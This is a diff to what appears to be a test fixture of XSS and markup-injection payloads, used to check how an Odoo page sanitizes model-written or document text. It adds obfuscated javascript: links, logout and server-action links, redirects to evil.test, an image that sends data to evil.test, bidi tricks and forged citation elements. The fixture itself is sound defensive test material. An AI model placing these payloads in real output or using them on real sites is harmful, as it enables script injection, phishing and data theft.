@@ -1,6 +1,6 @@
 /**
- * Forty attacks on a page that shows text written by a model or found in a document. Each is
- * a list of parts: where an attack is cut matters.
+ * Forty attacks on a page that shows text written by a model or found in a document, and
+ * more that only Odoo knows. Each is a list of parts: where an attack is cut matters.
  */
 export const XSS_PAYLOADS = [
     { name: "script tag", parts: ["<script>window.__x=1</script>"] },
@@ -11,7 +11,8 @@ export const XSS_PAYLOADS = [
     { name: "md link javascript", parts: ["[click](javascript:window.__x=1)"] },
     { name: "md link JaVaScRiPt+tab", parts: ["[click](java&#09;script:window.__x=1)"] },
     { name: "md link entity", parts: ["[click](&#x6A;avascript:window.__x=1)"] },
-    { name: "md link vbscript/data", parts: ["[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"] },
+    { name: "md link data", parts: ["[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"] },
+    { name: "md link vbscript", parts: ["[click](vbscript:msgbox(1))"] },
     { name: "autolink javascript", parts: ["<javascript:window.__x=1>"] },
     { name: "md image javascript", parts: ["![x](javascript:window.__x=1)"] },
     { name: "md image title break", parts: ["![x](x \"a\\\" onerror=\\\"window.__x=1\")"] },
@@ -39,8 +40,37 @@ export const XSS_PAYLOADS = [
     { name: "odoo data-tooltip-template", parts: ["<span data-tooltip-template=\"web.CopyButton\" data-tooltip-info=\"{}\">x</span>"] },
     { name: "odoo mail redirect", parts: ["<a href=\"#\" class=\"o_mail_redirect\" data-oe-model=\"res.users\" data-oe-id=\"2\">@admin</a>"] },
     { name: "same-origin GET action", parts: ["[ok](/web/session/logout)"] },
-    { name: "target no noopener", parts: ["<a href=\"http://evil.test\" target=\"_blank\">x</a>"] },
     { name: "bidi override", parts: ["pay \u202e001 \u202c to"] },
     { name: "table cell html", parts: ["| a |\n|---|\n| <img src=x onerror=window.__x=1> |"] },
     { name: "split across tokens", parts: ["<im", "g src=x one", "rror=window.__x=1>"] },
+];
+
+/** Beyond the forty: addresses and marks that mean something to Odoo or to a browser. */
+export const MORE_PAYLOADS = [
+    { name: "target no noopener", parts: ["<a href=\"http://evil.test\" target=\"_blank\">x</a>"] },
+    { name: "server action by address", parts: ["[ok](/odoo/action-base.autovacuum)"] },
+    { name: "action in the hash", parts: ["[ok](#action=base.action_res_users&menu_id=4)"] },
+    { name: "relative with a scheme", parts: ["[ok](http:/web/session/logout)", " [ok](https:web/session/logout)"] },
+    { name: "dots out of /odoo/", parts: ["[ok](/odoo/%2e%2e/web/session/logout)", " [ok](/odoo/..\\web/session/logout)"] },
+    { name: "address without a scheme", parts: ["[ok](//evil.test/x)", " [ok](\\\\evil.test/x)"] },
+    { name: "a name before the host", parts: ["[https://bank.test](https://bank.test@evil.test/)"] },
+    { name: "scheme with a newline", parts: ["[click](<java&#x0A;script:window.__x=1>)"] },
+    { name: "scheme with a control mark", parts: ["[click](\u0001javascript:window.__x=1)"] },
+    { name: "scheme in capitals, by entity", parts: ["[click](JAVA&#83;CRIPT&colon;window.__x=1)"] },
+    { name: "image by reference", parts: ["![p][r]\n\n[r]: http://evil.test/?d=STOCK"] },
+    { name: "link by late reference", parts: ["[p][r]\n\nText\n\n", "[r]: javascript:window.__x=1"] },
+    { name: "bidi by entity", parts: ["pay &#8238;001 &#x202C; to &#x2066;x&#x2069;"] },
+    { name: "bidi in a title", parts: ["[x](https://example.com \"a &#8238;b\")"] },
+    { name: "channel redirect", parts: ["<a href=\"#\" class=\"o_channel_redirect\" data-oe-id=\"1\">#general</a>"] },
+    { name: "tooltip", parts: ["<b data-tooltip=\"<img src=x onerror=window.__x=1>\">x</b>"] },
+    { name: "owl in text", parts: ["<t t-out=\"window.__x=1\"/> {{ window.__x = 1 }} ${window.__x=1}"] },
+    { name: "citation chip forged", parts: ["<button class=\"o_aipa_cite\" data-cite=\"1\">1</button>"] },
+    { name: "code span break", parts: ["``<img src=x onerror=window.__x=1>``"] },
+    { name: "cdata", parts: ["<![CDATA[<img src=x onerror=window.__x=1>]]>"] },
+    { name: "comment", parts: ["<!--><img src=x onerror=window.__x=1>-->"] },
+    { name: "processing instruction", parts: ["<?xml-stylesheet href=\"http://evil.test/a.css\"?>"] },
+    { name: "portal and object", parts: ["<object data=\"javascript:window.__x=1\"></object><embed src=\"http://evil.test\">"] },
+    { name: "slot and custom element", parts: ["<x-y onclick=window.__x=1 is=\"x\" slot=\"y\">z</x-y>"] },
+    { name: "null character", parts: ["<scr\u0000ipt>window.__x=1</script>"] },
+    { name: "fence language", parts: ["```__proto__\nx\n```\n\n```constructor\nx\n```"] },
 ];
